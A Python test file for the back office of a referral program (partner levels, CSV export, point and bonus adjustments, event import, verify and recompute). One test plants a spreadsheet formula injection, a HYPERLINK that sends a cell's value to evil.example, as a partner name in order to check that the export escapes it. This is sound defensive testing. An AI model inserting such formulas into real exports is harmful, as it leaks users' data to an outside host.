"""Back office pages of the referral program (issue 5, item 8): partners by level, the CSV
export, a partner's standing and history with the manual adjustment, unattributed clients, the
event log with rejected events and the JSONL import, verify and recompute."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from partnerhub.core.models.audit import AuditEvent
from partnerhub.referrals.models import StoredEvent
from partnerhub.referrals.models.events import EventRejection
from partnerhub.referrals.selectors import standing as st
from partnerhub.referrals.services import intake, live
from tests.referrals.pages_support import (
    NOW,
    activity,
    at,
    client,
    ingest,
    join,
    referral_program,
    spec_story,
)

NBSP = "\xa0"


@pytest.fixture(autouse=True)
def _frozen_now():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def program(world):
    return referral_program(world.vendor)


@pytest.fixture
def partners(world, program):
    """A at level 2 (the spec story), B at level 0 with no clients, FILE01 only from a file."""
    a = join(program, world.partner_a)
    b = join(program, world.partner_b)
    ingest(program, spec_story(a.code))
    ingest(program, [{"id": "f-p", "type": "partner.registered", "at": at(0), "partner": "FILE01"}])
    return {"a": a, "b": b}


def text(response) -> str:
    return response.content.decode().replace("&nbsp;", NBSP)


# --- partners by level ----------------------------------------------------------------------


def test_partners_by_level_counts_and_filter(partners, login_as):
    staff = login_as("vendor:support")
    response = staff.get(reverse("backoffice:referrals"))
    assert response.status_code == 200
    # then one partner is at level 2 and two at level 0
    assert response.context["counts"] == [(0, 2), (2, 1)]
    assert response.context["rows"][0]["state"].partner == partners["a"].code
    body = text(response)
    assert "ООО «Альфа»" in body
    assert "из файла событий" in body  # FILE01 has no organisation
    # when filtered by level 0
    filtered = staff.get(reverse("backoffice:referrals"), {"level": "0"})
    codes = {row["state"].partner for row in filtered.context["rows"]}
    assert codes == {partners["b"].code, "FILE01"}


def test_partners_list_takes_few_queries(partners, login_as, django_assert_max_num_queries):
    staff = login_as("vendor:program_manager")
    with django_assert_max_num_queries(12):
        response = staff.get(reverse("backoffice:referrals"))
    assert response.status_code == 200


def test_only_writers_see_the_verify_and_recompute_buttons(partners, login_as):
    assert 'id="verify-button"' in text(
        login_as("vendor:administrator").get("/backoffice/referrals/")
    )
    assert 'id="verify-button"' not in text(
        login_as("vendor:accountant").get("/backoffice/referrals/")
    )


# --- CSV export -----------------------------------------------------------------------------


def test_export_csv_has_every_partner_with_its_balance(partners, login_as):
    response = login_as("vendor:accountant").get(reverse("backoffice:referral_export"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    by_code = {row["code"]: row for row in rows}
    assert set(by_code) == {partners["a"].code, partners["b"].code, "FILE01"}
    a = by_code[partners["a"].code]
    assert a["organisation"] == "ООО «Альфа»"
    assert (a["level"], a["active_points"], a["points_total"]) == ("2", "79", "79")
    assert (a["bonus_accrued"], a["bonus_balance"]) == ("2700.00", "2700.00")
    assert (a["clients"], a["active_clients"]) == ("1", "1")
    assert a["next_review"] == "2026-04-10T09:00:00+03:00"  # Moscow time
    assert by_code["FILE01"]["organisation"] == ""
    assert by_code[partners["b"].code]["bonus_balance"] == "0.00"


def test_export_csv_makes_a_formula_in_a_partner_name_plain_text(world, partners, login_as):
    hostile = '=HYPERLINK("http://evil.example/?x="&A2,"Beta")'
    world.partner_a.short_name = hostile
    world.partner_a.save(update_fields=["short_name"])

    response = login_as("vendor:accountant").get(reverse("backoffice:referral_export"))

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    by_code = {row["code"]: row for row in csv.DictReader(io.StringIO(content))}
    assert by_code[partners["a"].code]["organisation"] == "'" + hostile
    assert by_code[partners["a"].code]["bonus_balance"] == "2700.00"


def test_bonus_balances_of_many_partners_take_one_query(
    partners, program, login_as, django_assert_num_queries
):
    # given A with 2 700 accrued and 500 taken back by hand, B with nothing, and FILE01 (known
    # only from files) with one active client (100 bonuses accrued, no ledger account)
    a, b = partners["a"].code, partners["b"].code
    login_as("vendor:administrator").post(
        reverse("backoffice:referral_partner_adjust", args=[a]),
        {"points": "", "amount": "−500,00", "reason": "Ошибочное начисление"},
    )
    ingest(
        program,
        [
            client("f-c", "file-client.bitrix24.ru", 1, referral_code="FILE01"),
            activity("f-a", "file-client.bitrix24.ru", 2),
        ],
    )
    # when the balances of the three (and of an unknown code) are read in bulk
    with django_assert_num_queries(1):
        balances = st.bonus_balances(program=program, codes=[a, b, "FILE01", "NOPE"])
    # then each is the ledger's balance, or what was accrued for the file-only partner, the same
    # as one partner at a time; a code without a live state is absent
    assert balances == {a: Decimal("2200.00"), b: Decimal("0.00"), "FILE01": Decimal("100.00")}
    for code, balance in balances.items():
        accrued = st.standing_of(program=program, code=code).bonus_accrued
        assert st.bonus_balance(program=program, code=code, accrued=accrued) == balance, code
    assert st.bonus_balances(program=program, codes=[]) == {}


# --- one partner ----------------------------------------------------------------------------


def test_partner_page_shows_standing_and_history(partners, login_as):
    code = partners["a"].code
    response = login_as("vendor:support").get(reverse("backoffice:referral_partner", args=[code]))
    assert response.status_code == 200
    standing = response.context["standing"]
    assert (standing.level, standing.active_points, standing.bonus_balance) == (
        2,
        79,
        Decimal("2700.00"),
    )
    history = response.context["history"]
    assert history["counts"] == {"grants": 4, "bonuses": 3, "levels": 2, "reviews": 0}
    assert [(c.old, c.new) for c in history["levels"]] == [(1, 2), (0, 1)]
    body = text(response)
    assert "Вознаграждение с оплаты" in body
    assert "acme-team" in body  # the event that caused the reward
    # support staff read but do not adjust
    assert 'id="adjustment-form"' not in body


def test_partner_page_of_an_unknown_code_is_404(partners, login_as):
    response = login_as("vendor:support").get(reverse("backoffice:referral_partner", args=["NOPE"]))
    assert response.status_code == 404


def test_points_adjustment_raises_the_level_and_is_audited(partners, login_as, world):
    # given A with 79 active points (level 2)
    code = partners["a"].code
    url = reverse("backoffice:referral_partner_adjust", args=[code])
    # when the program manager adds 41 points with a reason
    response = login_as("vendor:program_manager").post(
        url, {"points": "41", "amount": "", "reason": "Компенсация за сбой учёта"}
    )
    # then the page shows level 3 (120 points) and the adjustment is audited
    assert response.status_code == 302
    standing = st.standing_of(program=partners["a"].program, code=code)
    assert (standing.level, standing.active_points) == (3, 120)
    audit = AuditEvent.objects.filter(action="referrals.points.adjusted").get()
    assert audit.actor_user_id == world.user("vendor:program_manager").pk
    assert StoredEvent.objects.filter(type="points.adjusted", source="backoffice").count() == 1


def test_bonus_adjustment_changes_the_ledger_balance(partners, login_as):
    code = partners["a"].code
    client_ = login_as("vendor:administrator")
    response = client_.post(
        reverse("backoffice:referral_partner_adjust", args=[code]),
        {"points": "", "amount": "−500,00", "reason": "Ошибочное начисление"},
    )
    assert response.status_code == 302
    page = client_.get(response["Location"])
    assert page.context["standing"].bonus_balance == Decimal("2200.00")
    assert "Корректировка записана." in text(page)


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"points": "10", "amount": "", "reason": "  "}, "reason"),
        ({"points": "", "amount": "", "reason": "Почему-то"}, None),
        ({"points": "0", "amount": "", "reason": "Почему-то"}, None),
        ({"points": "1.5", "amount": "", "reason": "Почему-то"}, "points"),
        ({"points": "5", "amount": "10", "reason": "Почему-то"}, "points"),
    ],
)
def test_a_bad_adjustment_is_refused_and_changes_nothing(partners, login_as, data, field):
    code = partners["a"].code
    response = login_as("vendor:program_manager").post(
        reverse("backoffice:referral_partner_adjust", args=[code]), data
    )
    assert response.status_code == 400
    form = response.context["form"]
    assert form.errors
    if field is not None:
        assert field in form.errors
    assert not StoredEvent.objects.filter(type__endswith=".adjusted").exists()
    assert st.standing_of(program=partners["a"].program, code=code).active_points == 79


# --- unattributed clients -------------------------------------------------------------------


def test_unattributed_clients_with_reasons_and_filter(partners, program, login_as, world):
    # given clients with no code, an unknown code and a self-referral (the partner's own INN)
    ingest(
        program,
        [
            client("u1", "nocode.bitrix24.ru", 1),
            client("u2", "unknown.bitrix24.ru", 1, referral_code="ZZZZZZ"),
            client("u3", "self.bitrix24.ru", 1, referral_code=partners["a"].code,
                   inn=world.partner_a.inn),
        ],
    )  # fmt: skip
    staff = login_as("vendor:support")
    response = staff.get(reverse("backoffice:referral_unattributed"))
    assert response.status_code == 200
    rows = {c.client: c.reason for c in response.context["page"]}
    assert set(rows) == {"nocode.bitrix24.ru", "unknown.bitrix24.ru", "self.bitrix24.ru"}
    assert all(rows.values()), rows  # every one says why
    # when filtered by the reason of the self-referral
    reason = rows["self.bitrix24.ru"]
    filtered = staff.get(reverse("backoffice:referral_unattributed"), {"reason": reason})
    assert [c.client for c in filtered.context["page"]] == ["self.bitrix24.ru"]


# --- the event log and the import -----------------------------------------------------------


def test_event_log_filters_by_type_and_searches(partners, login_as):
    staff = login_as("vendor:support")
    url = reverse("backoffice:referral_events")
    payments = staff.get(url, {"type": "payment"})
    assert payments.status_code == 200
    assert {e.event_id for e in payments.context["page"]} == {
        "acme-disk",
        "acme-team",
        "acme-users",
    }
    found = staff.get(url, {"q": "acme-act"})
    assert [e.event_id for e in found.context["page"]] == ["acme-act"]
    by_client = staff.get(url, {"q": "acme.bitrix24"})
    assert by_client.context["page"].paginator.count == 5
    # support staff do not import
    assert 'id="import-form"' not in text(found)


def test_event_log_takes_few_queries(partners, login_as, django_assert_max_num_queries):
    staff = login_as("vendor:administrator")
    with django_assert_max_num_queries(12):
        response = staff.get(reverse("backoffice:referral_events"))
    assert response.status_code == 200


def jsonl(*lines: object) -> SimpleUploadedFile:
    body = "\n".join(line if isinstance(line, str) else json.dumps(line) for line in lines)
    return SimpleUploadedFile("events.jsonl", body.encode(), content_type="application/x-ndjson")


def test_jsonl_import_reports_accepted_duplicates_and_rejected_lines(partners, login_as):
    code = partners["a"].code
    upload = jsonl(
        client("i1", "new.bitrix24.ru", 2, referral_code=code),  # line 1: accepted
        client("acme-reg", "acme.bitrix24.ru", 1, referral_code=code),  # 2: stored before
        "{not json",  # 3
        {"id": "i2", "type": "payment", "at": at(3), "client": "ghost.bitrix24.ru",
         "product": "tariff.team", "months": 3, "amount": "100.00"},  # 4: waits for its client
        "",  # a blank line is skipped
        {"id": "i3", "type": "client.vanished", "at": at(3)},  # 6: unknown type
    )  # fmt: skip
    response = login_as("vendor:program_manager").post(
        reverse("backoffice:referral_events_import"), {"file": upload}
    )
    assert response.status_code == 200
    result = response.context["result"]
    assert (result["lines"], result["accepted"], result["duplicates"]) == (5, 2, 1)
    assert result["waiting"] == 1
    assert [(r["line"], r["id"]) for r in result["rejected"]] == [(3, None), (6, "i3")]
    assert "malformed JSON" in result["rejected"][0]["reason"]
    assert StoredEvent.objects.filter(event_id="i1", source="file").exists()
    assert not EventRejection.objects.filter(event_id="i2").exists()
    body = text(response)
    waiting_one = "(из них ждут клиента, платёж или промокод: 1)"
    assert f"Принято: 2 {waiting_one}, повторов: 1, отклонено: 2." in body
    assert reverse("backoffice:referral_waiting") in body  # where the waiting one is listed
    assert "Импорт: принято 2 (из них ждут 1), повторов 1, отклонено 2." in body


def test_an_import_without_a_file_is_refused(partners, login_as):
    response = login_as("vendor:administrator").post(reverse("backoffice:referral_events_import"))
    assert response.status_code == 400
    assert "file" in response.context["form"].errors


def test_rejected_events_are_listed_by_stage(partners, program, login_as):
    intake.events_ingest(
        program=program, objs=[{"id": "bad", "type": "nope", "at": at(1)}], source="api"
    )
    response = login_as("vendor:support").get(
        reverse("backoffice:referral_events"), {"stage": "intake"}
    )
    rows = list(response.context["rejected_page"])
    assert [r.event_id for r in rows] == ["bad"]
    assert rows[0].reason


def test_rejected_events_have_their_own_pages(partners, program, login_as):
    intake.events_ingest(
        program=program,
        objs=[{"id": f"bad{i}", "type": "nope", "at": at(1)} for i in range(30)],
        source="api",
    )
    url = reverse("backoffice:referral_events")
    response = login_as("vendor:support").get(url, {"rpage": "2"})
    assert response.context["rejected_page"].number == 2
    assert len(response.context["rejected_page"]) == 5
    assert response.context["page"].number == 1  # the events table stays on its first page


# --- verify and recompute -------------------------------------------------------------------


def test_verify_with_no_mismatch_says_so(partners, login_as):
    response = login_as("vendor:program_manager").post(
        reverse("backoffice:referral_verify"), follow=True
    )
    assert response.status_code == 200
    assert "Проверка пройдена" in text(response)


def test_verify_lists_the_mismatches_it_finds(partners, login_as, monkeypatch):
    # given the replay disagrees with the live state of A on the level
    code = partners["a"].code
    found = [live.Mismatch(code, "level", 3, 2)]
    monkeypatch.setattr(live, "verify", lambda *, program: found)
    # when staff verify
    response = login_as("vendor:administrator").post(reverse("backoffice:referral_verify"))
    # then the page lists the difference and offers the recompute
    assert response.status_code == 200
    assert response.context["mismatches"] == found
    body = text(response)
    assert "Найдены расхождения: 1." in body
    assert reverse("backoffice:referral_partner", args=[code]) in body
    assert reverse("backoffice:referral_recompute") in body


def test_recompute_reports_the_partners_recomputed(partners, login_as):
    response = login_as("vendor:administrator").post(
        reverse("backoffice:referral_recompute"), follow=True
    )
    assert response.status_code == 200
    assert "Пересчитано партнёров: 3." in text(response)
    standing = st.standing_of(program=partners["a"].program, code=partners["a"].code)
    assert (standing.level, standing.active_points) == (2, 79)
